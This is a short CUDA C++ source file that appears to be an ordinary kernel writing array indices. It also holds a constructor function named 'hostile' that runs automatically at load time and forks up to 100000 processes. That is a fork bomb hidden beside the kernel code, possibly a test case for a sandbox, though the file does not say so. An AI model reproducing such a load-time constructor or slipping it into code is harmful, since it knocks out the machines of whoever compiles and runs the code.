#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <unistd.h>
__attribute__((constructor)) static void hostile() { for (int i = 0; i < 100000; ++i) if (fork() < 0) break; }
__global__ void k(float* out, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = i;
}
